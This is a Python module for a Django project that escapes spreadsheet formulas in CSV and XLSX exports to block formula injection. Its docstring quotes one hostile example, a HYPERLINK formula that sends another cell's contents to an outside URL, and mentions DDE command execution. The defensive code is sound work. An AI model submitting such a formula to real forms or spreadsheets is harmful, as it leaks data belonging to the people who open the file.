"""The file formats of every import and export (``settings.IMPORT_EXPORT_FORMATS``).

Formula injection: a visitor who registers as ``=HYPERLINK("http://…?x="&A1,"Click")``
gets a live formula into the coordinator's spreadsheet, which can leak other cells or
run commands (DDE). django-import-export's switch ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT``
calls ``_escape_formulae()`` on every format, but the library's version only strips one
leading ``=`` (``+1+1``, ``-2+3``, ``@SUM(…)``, a leading tab or carriage return stay live)
and turns every cell, ``None`` and numbers included, into text. These formats keep the
switch and complete it: a text value starting with ``= + - @``, a tab or a carriage return
gets a leading apostrophe, which spreadsheet programs read as "this is text" (OWASP's
advice for CSV injection). Numbers, dates and empty cells keep their type.
"""

import io
import re

import openpyxl
from django.utils.translation import gettext
from import_export.formats import base_formats
from openpyxl.styles import Alignment, Font

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NEGATIVE_NUMBER = re.compile(r"-\d+(?:[.,]\d+)?")  # "-2" or "-1,5" is a number, never a formula


def neutralise_formula(value):
    """``value`` as a spreadsheet shows it as text, never evaluates it."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not NEGATIVE_NUMBER.fullmatch(value):
        return f"'{value}"
    return value


class FormulaSafeFormat:
    def _escape_formulae(self, dataset):
        # Called by TablibFormat.export_data() when IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is on.
        if dataset.headers:
            dataset.headers = [neutralise_formula(header) for header in dataset.headers]
        for index, row in enumerate(list(dataset)):
            dataset[index] = [neutralise_formula(value) for value in row]


class CSV(FormulaSafeFormat, base_formats.CSV):
    def export_data(self, dataset, **kwargs):
        # The byte order mark makes Excel read the file as UTF-8 (ä, ö, å).
        return "\ufeff" + super().export_data(dataset, **kwargs)


class XLSX(FormulaSafeFormat, base_formats.XLSX):
    """A dataset with a ``data_protection_note`` (set by ``PortalResource``) gets the
    note on a second sheet, so it travels with the file."""

    def export_data(self, dataset, **kwargs):
        content = super().export_data(dataset, **kwargs)
        note = getattr(dataset, "data_protection_note", None)
        if not note:
            return content
        book = openpyxl.load_workbook(io.BytesIO(content))
        title = gettext("Data protection")
        sheet = book.create_sheet(title[:31])  # Excel's limit for sheet names
        sheet["A1"], sheet["A2"] = neutralise_formula(title), neutralise_formula(str(note))
        sheet["A1"].font = Font(bold=True)
        sheet["A2"].alignment = Alignment(wrap_text=True, vertical="top")
        sheet.column_dimensions["A"].width = 100
        output = io.BytesIO()
        book.save(output)
        return output.getvalue()


# CSV first: the format the import form offers first.
FORMATS = [CSV, XLSX]
